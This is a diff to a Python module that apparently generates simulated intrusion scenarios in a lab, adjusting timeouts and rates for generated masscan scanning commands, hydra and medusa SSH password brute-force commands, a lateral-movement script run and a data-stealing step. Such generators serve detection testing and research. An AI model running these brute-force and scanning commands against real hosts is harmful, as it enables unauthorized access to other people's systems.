@@ -97,9 +97,9 @@ class _Story:
     def guess(self, line_of):
         """With a tool for guessing; `line_of` makes its command line for a server."""
         user, right = LABUSER
-        count = self.chance.randint(3, 6)
+        count = self.chance.randint(2, 4)
         self.files["guesses"] = words.lines(words.passwords(self.chance, count, right))
-        self.run("lateral.sh", [line_of(user, server.ip) for server in self.servers], 30)
+        self.run("lateral.sh", [line_of(user, server.ip) for server in self.servers], 34)
 
     def steal(self, how="curl"):
         port = self.chance.choice((443, 8443, 4444))
@@ -137,7 +137,7 @@ def _nc(chance, hosts, ports):
 
 
 def _masscan(chance, hosts, ports):
-    return f"masscan -e eth0 --rate {chance.randint(5, 40)} --wait 2 -p {ports} --range {hosts.replace(' ', ',')}"
+    return f"timeout -s KILL 8 masscan -e eth0 --rate {chance.randint(15, 40)} --wait 2 -p {ports} --range {hosts.replace(' ', ',')}"
 
 
 def _pnscan(chance, hosts, ports):
@@ -146,11 +146,11 @@ def _pnscan(chance, hosts, ports):
 
 
 def _hydra(user, at):
-    return f"timeout 12 hydra -I -l {user} -P guesses -t 2 ssh://{at}"
+    return f"timeout 11 hydra -I -l {user} -P guesses -t 2 ssh://{at}"
 
 
 def _medusa(user, at):
-    return f"timeout 12 medusa -h {at} -u {user} -P guesses -M ssh -t 1 -f"
+    return f"timeout 11 medusa -h {at} -u {user} -P guesses -M ssh -t 1 -f"
 
 
 def _from_the_client(chance, world, scan, guess=None, steal="curl"):
